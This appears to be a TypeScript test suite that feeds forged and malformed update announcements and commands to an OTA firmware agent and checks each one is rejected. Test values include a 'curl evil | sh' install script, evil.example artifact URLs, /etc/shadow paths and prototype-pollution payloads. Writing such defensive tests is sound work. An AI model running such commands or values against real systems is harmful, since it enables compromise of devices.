// Hostile and broken input through the real in-process Agent (store, simulated backend, trust policy
// wired as in src/agent/run.ts). Every case names the exact reason code it must be refused with,
// and for every case: no update record (store.current() stays null), the simulated slots and
// bootloader byte-for-byte unchanged, nothing downloaded, exactly one new `rejected` event in the
// outbox carrying that reason, and no prototype pollution.
import { sign } from 'node:crypto';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { ConfigInput } from '../../src/config/schema.js';
import { REJECT_REASONS, type RejectReason } from '../../src/core/reasons.js';
import {
  ANNOUNCEMENT_TYPE,
  ARTIFACT_HOST,
  COMMAND_TYPE,
  COMMANDS,
  CRITICAL,
  MAX_ARTIFACT_BYTES,
  NOW,
  STABLE,
  T,
  announcement,
  command,
  envelopeBytes,
  fleetKey,
  harness,
  json,
  outsiderKey,
  revokedKey,
  secondKey,
  signedAnnouncement,
  signedCommand,
  utf8,
  type Harness,
} from './agent-harness.js';

interface Case {
  name: string;
  topic: string;
  reason: RejectReason;
  bytes: () => Uint8Array;
  config?: (c: ConfigInput) => ConfigInput;
  /** Runs before the snapshot, e.g. a message seen earlier (for replays). */
  setup?: (h: Harness) => Promise<void> | void;
}

const iso = (offsetSeconds: number): string => new Date(NOW.getTime() + offsetSeconds * 1000).toISOString();
const b64 = (b: Buffer | string): string => (typeof b === 'string' ? Buffer.from(b, 'utf8') : b).toString('base64');
/** The signed envelope of a valid announcement as a mutable object. */
const envObj = (a: unknown = announcement(), keys = [fleetKey]) => JSON.parse(signedAnnouncement(a, keys).toString('utf8')) as { payloadType: string; payload: string; signatures: Array<{ keyid: string; sig: string }> };
const cmdEnvObj = (c: unknown = command(), keys = [fleetKey]) => JSON.parse(signedCommand(c, keys).toString('utf8')) as ReturnType<typeof envObj>;
const withLimit = (maxMessageBytes: number) => (c: ConfigInput): ConfigInput => ({ ...c, limits: { maxMessageBytes } });
/** The default command threshold: as strict as the strictest channel the device follows (critical: 2). */
const defaultCommandThreshold = (c: ConfigInput): ConfigInput => ({ ...c, trust: { ...c.trust, commandThreshold: undefined } });
const deepArray = (n: number) => '['.repeat(n) + ']'.repeat(n);
const deepObject = (n: number) => '{"a":'.repeat(n) + '0' + '}'.repeat(n);
/** Replaces the first occurrence of `from` in the JSON text of `value` (for duplicate keys). */
const jsonWith = (value: unknown, from: string, to: string): string => {
  const s = JSON.stringify(value);
  if (!s.includes(from)) throw new Error(`test bug: ${from} not in ${s}`);
  return s.replace(from, to);
};

/** Seen before on stable: a 2.0.0 announcement (ALREADY_INSTALLED) advances the channel's mark to 1000. */
async function seenAnnouncement(h: Harness): Promise<void> {
  const d = h.agent.handleAnnouncement(STABLE, signedAnnouncement(announcement({ id: 'acme-gw-2.0.0', version: '2.0.0', sequence: 1000 })));
  expect(d).toMatchObject({ kind: 'ignore', why: 'ALREADY_INSTALLED' });
}

/** Seen before: an accepted `check` command with sequence 1000 (and its check report). */
async function seenCommand(h: Harness): Promise<void> {
  const d = await h.agent.handleCommand(COMMANDS, signedCommand(command({ sequence: 1000 })));
  expect(d.kind).toBe('accept');
  const deadline = Date.now() + 10_000;
  while (!h.outbox().some((e) => e.type === 'check')) {
    if (Date.now() > deadline) throw new Error('the check report did not arrive');
    await new Promise((r) => setTimeout(r, 10));
  }
}

/** Ed25519 signature malleability: S + L (the group order) is the "same" signature, non-canonically encoded. */
function malleate(sigB64: string): string {
  const sig = Buffer.from(sigB64, 'base64');
  const L = 2n ** 252n + 27742317777372353535851937790883648493n;
  let s = 0n;
  for (let i = 31; i >= 0; i--) s = (s << 8n) | BigInt(sig[32 + i] as number);
  s += L;
  for (let i = 0; i < 32; i++) {
    sig[32 + i] = Number(s & 0xffn);
    s >>= 8n;
  }
  return sig.toString('base64');
}

/** An announcement whose base64 payload ends in padding, re-encoded with non-zero trailing bits: same bytes decoded. */
function nonCanonicalBase64(): Buffer {
  let pad = '';
  let a = announcement({ id: 'acme-gw-2.0.0', version: '2.0.0', sequence: 1000, description: pad });
  while (json(a).length % 3 !== 1) {
    pad += ' ';
    a = announcement({ id: 'acme-gw-2.0.0', version: '2.0.0', sequence: 1000, description: pad });
  }
  const e = envObj(a);
  // "xx==": the second character carries 4 unused bits; flip the lowest.
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const i = e.payload.length - 3;
  const changed = e.payload.slice(0, i) + alphabet[alphabet.indexOf(e.payload[i] as string) ^ 1] + e.payload.slice(i + 1);
  expect(changed).not.toBe(e.payload);
  expect(Buffer.from(changed, 'base64').equals(Buffer.from(e.payload, 'base64'))).toBe(true);
  return json({ ...e, payload: changed });
}

const ann = (name: string, reason: RejectReason, bytes: () => Uint8Array, more: Partial<Case> = {}): Case => ({ name, topic: STABLE, reason, bytes, ...more });
const cmd = (name: string, reason: RejectReason, bytes: () => Uint8Array, more: Partial<Case> = {}): Case => ({ name, topic: COMMANDS, reason, bytes, ...more });

const CASES: Record<string, Case[]> = {
  'size, encoding and JSON': [
    ann('70 000 bytes of junk', 'TOO_LARGE', () => utf8('x'.repeat(70_000))),
    ann('one byte over limits.maxMessageBytes', 'TOO_LARGE', () => utf8(`${' '.repeat(65_537 - 2)}{}`)),
    ann('a valid envelope padded with 1 MiB of whitespace', 'TOO_LARGE', () => Buffer.concat([signedAnnouncement(announcement()), utf8(' '.repeat(1 << 20))])),
    ann('100 000-deep nested arrays at the default limit', 'TOO_LARGE', () => utf8(deepArray(100_000))),
    ann('truncated JSON', 'MALFORMED_JSON', () => signedAnnouncement(announcement()).subarray(0, 100)),
    ann('whitespace only', 'MALFORMED_JSON', () => utf8('   \n\t ')),
    ann('invalid UTF-8 (0xff 0xfe)', 'MALFORMED_JSON', () => Buffer.from([0x7b, 0xff, 0xfe, 0x7d])),
    ann('overlong UTF-8 encoding of "/" (0xc0 0xaf)', 'MALFORMED_JSON', () => Buffer.concat([utf8('{"payloadType":"'), Buffer.from([0xc0, 0xaf]), utf8('"}')])),
    ann('UTF-8-encoded surrogate (CESU-8, 0xed 0xa0 0x80)', 'MALFORMED_JSON', () => Buffer.concat([utf8('{"a":"'), Buffer.from([0xed, 0xa0, 0x80]), utf8('"}')])),
    ann('UTF-16LE JSON with a BOM', 'MALFORMED_JSON', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(signedAnnouncement(announcement()).toString('utf8'), 'utf16le')])),
    ann('NUL bytes only', 'MALFORMED_JSON', () => Buffer.alloc(64)),
    ann('a NUL byte before the JSON', 'MALFORMED_JSON', () => Buffer.concat([Buffer.from([0]), signedAnnouncement(announcement())])),
    ann('trailing garbage after a valid envelope', 'MALFORMED_JSON', () => Buffer.concat([signedAnnouncement(announcement()), utf8('x')])),
    ann('two envelopes back to back', 'MALFORMED_JSON', () => Buffer.concat([signedAnnouncement(announcement()), signedAnnouncement(announcement())])),
    ann('single-quoted JSON5-style object', 'MALFORMED_JSON', () => utf8("{'payloadType': 'x'}")),
    ann('JSON with a comment', 'MALFORMED_JSON', () => utf8('{"payloadType": "x" /* hi */}')),
    ann('NaN literal', 'MALFORMED_JSON', () => utf8('{"payloadType": NaN}')),
  ],
  'envelope shape and types': [
    ann('JSON null', 'MALFORMED_ENVELOPE', () => utf8('null')),
    ann('a JSON array of envelopes', 'MALFORMED_ENVELOPE', () => utf8(`[${signedAnnouncement(announcement()).toString()}]`)),
    ann('a JSON string', 'MALFORMED_ENVELOPE', () => utf8('"application/vnd.ota-agent.announcement+json"')),
    ann('a JSON number', 'MALFORMED_ENVELOPE', () => utf8('1e309')),
    ann('the announcement itself, unsigned, without an envelope', 'MALFORMED_ENVELOPE', () => json(announcement())),
    ann('payload missing', 'MALFORMED_ENVELOPE', () => json({ payloadType: ANNOUNCEMENT_TYPE, signatures: envObj().signatures })),
    ann('signatures empty', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [] })),
    ann('nine signatures (more than 8)', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: Array.from({ length: 9 }, () => envObj().signatures[0]) })),
    ann('payloadType is a number', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payloadType: 42 })),
    ann('payload is null', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: null })),
    ann('signatures is an object', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: envObj().signatures[0] })),
    ann('an unknown top-level field', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), keyUrl: 'https://evil.example/key.pem' })),
    ann('an empty payloadType', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payloadType: '' })),
    ann('keyid not hex', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [{ keyid: 'z'.repeat(64), sig: envObj().signatures[0]?.sig }] })),
    ann('keyid that looks like a path (../../etc/…)', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [{ keyid: '../../etc/ota-agent/keys/fleet.pub', sig: envObj().signatures[0]?.sig }] })),
    ann('sig of 201 base64 characters', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [{ keyid: fleetKey.keyid, sig: 'A'.repeat(201) }] })),
    ann('an unknown field inside a signature', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [{ ...envObj().signatures[0], alg: 'none' }] })),
  ],
  base64: [
    ann('payload not base64 at all', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: '!!!!' })),
    ann('payload in the base64url alphabet', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: envObj().payload.replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '') + '-_-_' })),
    ann('payload without padding (length not a multiple of 4)', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: b64('{"a":1}').replace(/=+$/, '') })),
    ann('padding in the middle', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: `QQ==${envObj().payload}` })),
    ann('MIME-style line breaks in the payload', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), payload: envObj().payload.replace(/(.{76})/g, '$1\n') })),
    ann('sig not base64', 'MALFORMED_ENVELOPE', () => json({ ...envObj(), signatures: [{ keyid: fleetKey.keyid, sig: 'not base64!' }] })),
    ann('non-canonical base64 of a payload already seen: the same signed bytes, so REPLAYED', 'REPLAYED', nonCanonicalBase64, { setup: seenAnnouncement }),
  ],
  'payload type': [
    ann('the command type on an announcement topic', 'WRONG_PAYLOAD_TYPE', () => signedCommand(command())),
    ann('text/plain', 'WRONG_PAYLOAD_TYPE', () => envelopeBytes(json(announcement()), [fleetKey], 'text/plain')),
    ann('the announcement type in other letter case', 'WRONG_PAYLOAD_TYPE', () => envelopeBytes(json(announcement()), [fleetKey], ANNOUNCEMENT_TYPE.toUpperCase())),
    ann('the announcement type with a trailing NUL', 'WRONG_PAYLOAD_TYPE', () => envelopeBytes(json(announcement()), [fleetKey], `${ANNOUNCEMENT_TYPE}\u0000`)),
    ann('duplicate payloadType keys: the last one (command) counts', 'WRONG_PAYLOAD_TYPE', () =>
      utf8(jsonWith(envObj(), `"payloadType":"${ANNOUNCEMENT_TYPE}"`, `"payloadType":"${ANNOUNCEMENT_TYPE}","payloadType":"${COMMAND_TYPE}"`))),
  ],
  signatures: [
    ann('signed by a key the device does not know', 'UNKNOWN_KEY', () => signedAnnouncement(announcement(), [outsiderKey])),
    ann("a trusted key's signature filed under an unknown keyid", 'UNKNOWN_KEY', () => {
      const e = envObj();
      return json({ ...e, signatures: [{ keyid: outsiderKey.keyid, sig: e.signatures[0]?.sig }] });
    }),
    ann('threshold 2 configured, one trusted signature', 'UNKNOWN_KEY', () => signedAnnouncement(announcement()), { config: (c) => ({ ...c, trust: { ...c.trust, threshold: 2 } }) }),
    ann('a signature over other bytes (another announcement)', 'BAD_SIGNATURE', () => {
      const e = envObj();
      return json({ ...e, signatures: envObj(announcement({ version: '9.9.9' })).signatures });
    }),
    ann('payload changed after signing', 'BAD_SIGNATURE', () => json({ ...envObj(), payload: b64(JSON.stringify(announcement({ version: '6.6.6' }))) })),
    ann('signed over the raw payload instead of PAE', 'BAD_SIGNATURE', () => {
      const e = envObj();
      return json({ ...e, signatures: [{ keyid: fleetKey.keyid, sig: sign(null, Buffer.from(e.payload, 'base64'), fleetKey.priv).toString('base64') }] });
    }),
    ann('signed as a command, relabelled as an announcement', 'BAD_SIGNATURE', () => {
      const asCommand = JSON.parse(envelopeBytes(json(announcement()), [fleetKey], COMMAND_TYPE).toString()) as ReturnType<typeof envObj>;
      return json({ ...asCommand, payloadType: ANNOUNCEMENT_TYPE });
    }),
    ann('a truncated (63-byte) signature', 'BAD_SIGNATURE', () => {
      const e = envObj();
      return json({ ...e, signatures: [{ keyid: fleetKey.keyid, sig: Buffer.from(e.signatures[0]?.sig ?? '', 'base64').subarray(0, 63).toString('base64') }] });
    }),
    ann('an all-zero signature', 'BAD_SIGNATURE', () => json({ ...envObj(), signatures: [{ keyid: fleetKey.keyid, sig: Buffer.alloc(64).toString('base64') }] })),
    ann('a malleated signature (S + L)', 'BAD_SIGNATURE', () => {
      const e = envObj();
      return json({ ...e, signatures: [{ keyid: fleetKey.keyid, sig: malleate(e.signatures[0]?.sig ?? '') }] });
    }),
    ann('one good signature and one bad one by another trusted key', 'BAD_SIGNATURE', () => {
      const e = envObj();
      return json({ ...e, signatures: [...e.signatures, { keyid: secondKey.keyid, sig: e.signatures[0]?.sig }] });
    }),
    ann("an outsider's signature under a trusted keyid in upper case", 'BAD_SIGNATURE', () => {
      const e = envObj(announcement(), [outsiderKey]);
      return json({ ...e, signatures: [{ keyid: fleetKey.keyid.toUpperCase(), sig: e.signatures[0]?.sig }] });
    }),
    ann('signed only by a revoked key', 'REVOKED_KEY', () => signedAnnouncement(announcement(), [revokedKey])),
    ann('signed twice by the revoked key (keyid in both cases)', 'REVOKED_KEY', () => {
      const e = envObj(announcement(), [revokedKey]);
      const s = e.signatures[0] as { keyid: string; sig: string };
      return json({ ...e, signatures: [s, { ...s, keyid: s.keyid.toUpperCase() }] });
    }),
    ann('a revoked key plus an unknown key', 'UNKNOWN_KEY', () => signedAnnouncement(announcement(), [revokedKey, outsiderKey])),
  ],
  'two-signature channel (trust.channelThresholds.critical = 2)': [
    ann('one signature', 'INSUFFICIENT_SIGNATURES', () => signedAnnouncement(announcement({ channel: 'critical' })), { topic: CRITICAL }),
    ann('the same key twice', 'INSUFFICIENT_SIGNATURES', () => signedAnnouncement(announcement({ channel: 'critical' }), [fleetKey, fleetKey]), { topic: CRITICAL }),
    ann('the same key twice, keyid in different case', 'INSUFFICIENT_SIGNATURES', () => {
      const e = envObj(announcement({ channel: 'critical' }));
      const s = e.signatures[0] as { keyid: string; sig: string };
      return json({ ...e, signatures: [s, { ...s, keyid: s.keyid.toUpperCase() }] });
    }, { topic: CRITICAL }),
    ann('a trusted key plus a revoked one', 'INSUFFICIENT_SIGNATURES', () => signedAnnouncement(announcement({ channel: 'critical' }), [fleetKey, revokedKey]), { topic: CRITICAL }),
    ann('a trusted key plus an unknown one', 'INSUFFICIENT_SIGNATURES', () => signedAnnouncement(announcement({ channel: 'critical' }), [fleetKey, outsiderKey]), { topic: CRITICAL }),
  ],
  'payload schema, types and ranges': [
    ann('signed payload is not JSON', 'MALFORMED_PAYLOAD', () => envelopeBytes('version=2.1.0')),
    ann('signed payload is empty', 'MALFORMED_PAYLOAD', () => envelopeBytes('')),
    ann('signed payload is invalid UTF-8', 'MALFORMED_PAYLOAD', () => envelopeBytes(Buffer.concat([utf8('{"id":"'), Buffer.from([0xff]), utf8('"}')]))),
    ann('signed payload is JSON null', 'MALFORMED_PAYLOAD', () => envelopeBytes('null')),
    ann('signed payload is an array', 'MALFORMED_PAYLOAD', () => envelopeBytes(json([announcement()]))),
    ann('a command signed with the announcement type', 'MALFORMED_PAYLOAD', () => envelopeBytes(json(command()))),
    ann('an unknown field', 'MALFORMED_PAYLOAD', () => signedAnnouncement({ ...announcement(), installScript: 'curl evil | sh' })),
    ann('a required field missing (artifact)', 'MALFORMED_PAYLOAD', () => {
      const { artifact: _drop, ...rest } = announcement() as unknown as Record<string, unknown>;
      return signedAnnouncement(rest);
    }),
    ann('sequence as a string', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ sequence: '1001' }))),
    ann('sequence negative', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ sequence: -1 }))),
    ann('sequence 2^53 (not a safe integer)', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(announcement(), '"sequence":1000', '"sequence":9007199254740992'))),
    ann('sequence 1e400 (Infinity once parsed)', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(announcement(), '"sequence":1000', '"sequence":1e400'))),
    ann('sequence 1000.5', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ sequence: 1000.5 }))),
    ann('artifact size above 2^40', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, size: 2 ** 40 + 1 } }))),
    ann('artifact size 0', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, size: 0 } }))),
    ann('rollout.percent 100.000001', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ rollout: { percent: 100.000001 } }))),
    ann('rollout.percent as a string', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ rollout: { percent: '100' } }))),
    ann('allowDowngrade as the string "true"', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ version: '1.0.0', allowDowngrade: 'true' }))),
    ann('a version part of 10 digits', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ version: '1234567890.0.0' }))),
    ann('issuedAt not a timestamp', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ issuedAt: 'yesterday' }))),
    ann('expiresAt without a time zone', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ expiresAt: '2026-06-08T12:00:00' }))),
    ann('a description of 1001 characters', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ description: 'd'.repeat(1001) }))),
    ann('65 rollout groups', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ rollout: { percent: 100, groups: Array.from({ length: 65 }, (_, i) => `g${i}`) } }))),
    ann('a maintenance window with an invalid cron expression', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ rollout: { percent: 100, window: { cron: '61 25 * * * *', durationMinutes: 60 } } }))),
    ann('a maintenance window in an unknown time zone', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ rollout: { percent: 100, window: { cron: '0 2 * * *', durationMinutes: 60, timezone: 'Mars/Olympus_Mons' } } }))),
  ],
  'identifiers, paths and NUL bytes': [
    ann('id "../../etc"', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ id: '../../etc' }))),
    ann('id with a NUL byte', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ id: 'acme\u0000gw' }))),
    ann('id with MQTT wildcards and a slash', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ id: 'a/+/#' }))),
    ann('compatible "../../etc/passwd"', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ compatible: '../../etc/passwd' }))),
    ann('sha256 that is a path', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, sha256: '../../../../etc/shadow' } }))),
    ann('sha256 in upper case', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, sha256: 'AB'.repeat(32) } }))),
    ann('version with a NUL byte', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ version: '2.1.0\u0000' }))),
    ann('a file:// artifact URL', 'MALFORMED_PAYLOAD', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: 'file:///etc/shadow' } }))),
    ann('an OSTree ref with ".." segments', 'MALFORMED_PAYLOAD', () =>
      signedAnnouncement(announcement({ backend: 'ostree', artifact: { remote: { name: 'os', url: `https://${ARTIFACT_HOST}/repo` }, ref: 'os/../../etc', commit: 'a'.repeat(64) } }))),
  ],
  'prototype pollution and duplicate keys': [
    ann('"__proto__" at the envelope top level', 'MALFORMED_ENVELOPE', () => utf8(jsonWith(envObj(), '{"payloadType"', '{"__proto__":{"polluted":true},"payloadType"'))),
    ann('"__proto__" in the payload, trying to switch on allowDowngrade', 'MALFORMED_PAYLOAD', () =>
      envelopeBytes(jsonWith(announcement({ version: '1.0.0' }), '{"id"', '{"__proto__":{"allowDowngrade":true,"polluted":true},"id"'))),
    ann('"constructor.prototype" in the payload', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(announcement(), '{"id"', '{"constructor":{"prototype":{"polluted":true}},"id"'))),
    ann('"__proto__" inside rollout instead of percent', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(announcement(), '"rollout":{"percent":100}', '"rollout":{"__proto__":{"percent":100}}'))),
    ann('duplicate "version" keys: the last one (1.0.0) counts', 'NOT_NEWER', () => envelopeBytes(jsonWith(announcement({ version: '3.0.0' }), '"version":"3.0.0"', '"version":"3.0.0","version":"1.0.0"'))),
    ann('duplicate "compatible" keys: the last one counts', 'INCOMPATIBLE', () => envelopeBytes(jsonWith(announcement(), '"compatible":"acme-gw"', '"compatible":"acme-gw","compatible":"other-gw"'))),
  ],
  'validity, replay, version, device class, channel': [
    ann('expired beyond the 300 s skew allowance', 'EXPIRED', () => signedAnnouncement(announcement({ issuedAt: iso(-86400), expiresAt: iso(-301) }))),
    ann('expired, written with a +14:00 offset', 'EXPIRED', () => signedAnnouncement(announcement({ issuedAt: '2026-05-31T12:00:00+14:00', expiresAt: '2026-06-01T21:54:00+14:00' }))),
    ann('issued in the future beyond the skew allowance', 'NOT_YET_VALID', () => signedAnnouncement(announcement({ issuedAt: iso(301), expiresAt: iso(86400) }))),
    ann('issued in the year 9999', 'NOT_YET_VALID', () => signedAnnouncement(announcement({ issuedAt: '9999-12-30T23:59:59Z', expiresAt: '9999-12-31T23:59:59Z' }))),
    ann('expiresAt equal to issuedAt (an empty validity window)', 'EXPIRED', () => signedAnnouncement(announcement({ issuedAt: iso(-60), expiresAt: iso(-60) }))),
    ann('expiresAt before issuedAt, both within the clock-skew allowance of now', 'EXPIRED', () => signedAnnouncement(announcement({ issuedAt: iso(120), expiresAt: iso(-120) }))),
    ann('replayed: a lower sequence than already seen', 'REPLAYED', () => signedAnnouncement(announcement({ sequence: 999 })), { setup: seenAnnouncement }),
    ann('replayed: the same sequence with different content', 'REPLAYED', () => signedAnnouncement(announcement({ sequence: 1000 })), { setup: seenAnnouncement }),
    ann('a lower version without allowDowngrade', 'NOT_NEWER', () => signedAnnouncement(announcement({ version: '1.9.9' }))),
    ann('a prerelease of the running version', 'NOT_NEWER', () => signedAnnouncement(announcement({ version: '2.0.0-rc.1' }))),
    ann('allowDowngrade false, explicitly', 'NOT_NEWER', () => signedAnnouncement(announcement({ version: '1.0.0', allowDowngrade: false }))),
    ann('another device class (compatible)', 'INCOMPATIBLE', () => signedAnnouncement(announcement({ compatible: 'other-gw' }))),
    ann("another device class, on that class's topic", 'INCOMPATIBLE', () => signedAnnouncement(announcement({ compatible: 'other-gw' })), { topic: T.announce('other-gw', 'stable') }),
    ann('signed for channel beta, received on stable', 'WRONG_CHANNEL', () => signedAnnouncement(announcement({ channel: 'beta' }))),
    ann('a stable announcement replayed on the critical topic', 'WRONG_CHANNEL', () => signedAnnouncement(announcement()), { topic: CRITICAL }),
    ann('an OSTree announcement for a RAUC-style device', 'BACKEND_MISMATCH', () =>
      signedAnnouncement(announcement({ backend: 'ostree', artifact: { remote: { name: 'os', url: `https://${ARTIFACT_HOST}/repo` }, ref: 'os/stable', commit: 'a'.repeat(64) } }))),
  ],
  'artifact URL, host and size': [
    ann('plain http', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: `http://${ARTIFACT_HOST}/a.raucb` } }))),
    ann('a host not in artifacts.allowedHosts', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: 'https://evil.example/a.raucb' } }))),
    ann('a look-alike host (allowed host as a prefix)', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: `https://${ARTIFACT_HOST}.evil.example/a.raucb` } }))),
    ann('the allowed host as userinfo (https://allowed@evil/)', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: `https://${ARTIFACT_HOST}@evil.example/a.raucb` } }))),
    ann('backslash confusion (https://evil\\@allowed/)', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: `https://evil.example\\@${ARTIFACT_HOST}/a.raucb` } }))),
    ann('credentials in the URL', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: `https://user:secret@${ARTIFACT_HOST}/a.raucb` } }))),
    ann('an IP literal instead of the allowed host', 'ARTIFACT_URL_NOT_ALLOWED', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, url: 'https://127.0.0.1/a.raucb' } }))),
    ann('an artifact one byte above artifacts.maxBytes', 'ARTIFACT_TOO_LARGE', () => signedAnnouncement(announcement({ artifact: { ...announcement().artifact, size: MAX_ARTIFACT_BYTES + 1 } }))),
  ],
  'deep nesting (limits.maxMessageBytes raised to 1 MiB so the parser sees it)': [
    ann('100 000-deep nested arrays', 'MALFORMED_ENVELOPE', () => utf8(deepArray(100_000)), { config: withLimit(1_048_576) }),
    ann('100 000-deep nested objects', 'MALFORMED_ENVELOPE', () => utf8(deepObject(100_000)), { config: withLimit(1_048_576) }),
    ann('100 000-deep nesting as a keyid', 'MALFORMED_ENVELOPE', () => utf8(`{"payloadType":"${ANNOUNCEMENT_TYPE}","payload":"","signatures":[{"keyid":${deepArray(100_000)},"sig":""}]}`), { config: withLimit(1_048_576) }),
    ann('100 000-deep nesting inside a validly signed payload', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(announcement(), '"rollout":{"percent":100}', `"rollout":{"percent":100,"x":${deepObject(100_000)}}`)), { config: withLimit(1_048_576) }),
  ],
  commands: [
    cmd('an unsigned command (bare JSON, no envelope)', 'MALFORMED_ENVELOPE', () => json(command())),
    cmd('an envelope with no signatures', 'MALFORMED_ENVELOPE', () => json({ ...cmdEnvObj(), signatures: [] })),
    cmd('signed by an unknown key', 'UNKNOWN_KEY', () => signedCommand(command(), [outsiderKey])),
    cmd('signed by a revoked key', 'REVOKED_KEY', () => signedCommand(command(), [revokedKey])),
    cmd("another device's signed command with this device's id swapped in", 'BAD_SIGNATURE', () => {
      const e = cmdEnvObj(command({ deviceId: 'dev-0002', command: 'rollback' }));
      return json({ ...e, payload: b64(JSON.stringify(command({ deviceId: 'dev-0001', command: 'rollback' }))) });
    }),
    cmd('an announcement on the command topic', 'WRONG_PAYLOAD_TYPE', () => signedAnnouncement(announcement())),
    cmd('for another device', 'WRONG_DEVICE', () => signedCommand(command({ deviceId: 'dev-0002' }))),
    cmd('for this device id in other letter case', 'WRONG_DEVICE', () => signedCommand(command({ deviceId: 'DEV-0001' }))),
    cmd('duplicate "deviceId" keys: the last one (another device) counts', 'WRONG_DEVICE', () =>
      envelopeBytes(jsonWith(command(), '"deviceId":"dev-0001"', '"deviceId":"dev-0001","deviceId":"dev-0002"'), [fleetKey], COMMAND_TYPE)),
    cmd('deviceId "../dev-0001"', 'MALFORMED_PAYLOAD', () => signedCommand(command({ deviceId: '../dev-0001' }))),
    cmd('updateId "../../etc"', 'MALFORMED_PAYLOAD', () => signedCommand(command({ command: 'cancel', updateId: '../../etc' }))),
    cmd('an unknown command ("format-disk")', 'MALFORMED_PAYLOAD', () => signedCommand(command({ command: 'format-disk' }))),
    cmd('the command name in upper case', 'MALFORMED_PAYLOAD', () => signedCommand(command({ command: 'ROLLBACK' }))),
    cmd('an extra field (a path to act on)', 'MALFORMED_PAYLOAD', () => signedCommand({ ...command(), path: '/etc/shadow' })),
    cmd('"__proto__" in the payload', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(command(), '{"id"', '{"__proto__":{"polluted":true},"id"'), [fleetKey], COMMAND_TYPE)),
    cmd('sequence 1000.5', 'MALFORMED_PAYLOAD', () => signedCommand(command({ sequence: 1000.5 }))),
    cmd('sequence 2^53', 'MALFORMED_PAYLOAD', () => envelopeBytes(jsonWith(command(), '"sequence":1000', '"sequence":9007199254740992'), [fleetKey], COMMAND_TYPE)),
    cmd('expired', 'EXPIRED', () => signedCommand(command({ issuedAt: iso(-7200), expiresAt: iso(-3600) }))),
    cmd('issued in the future', 'NOT_YET_VALID', () => signedCommand(command({ issuedAt: iso(3600), expiresAt: iso(7200) }))),
    cmd('replayed: a lower sequence than an accepted command', 'REPLAYED', () => signedCommand(command({ id: 'check-999', sequence: 999 })), { setup: seenCommand }),
    cmd('replayed: the same sequence, another id', 'REPLAYED', () => signedCommand(command({ id: 'check-again', sequence: 1000 })), { setup: seenCommand }),
    cmd('rollback signed by one key to a device on a two-signature channel', 'INSUFFICIENT_SIGNATURES', () => signedCommand(command({ command: 'rollback' })), { config: defaultCommandThreshold }),
    cmd('check signed twice by the same key, on a two-signature device', 'INSUFFICIENT_SIGNATURES', () => signedCommand(command(), [fleetKey, fleetKey]), { config: defaultCommandThreshold }),
    cmd('one signature with trust.commandThreshold 2', 'INSUFFICIENT_SIGNATURES', () => signedCommand(command()), { config: (c) => ({ ...c, trust: { ...c.trust, commandThreshold: 2 } }) }),
    cmd('cancel with nothing in flight', 'COMMAND_NOT_APPLICABLE', () => signedCommand(command({ command: 'cancel' }))),
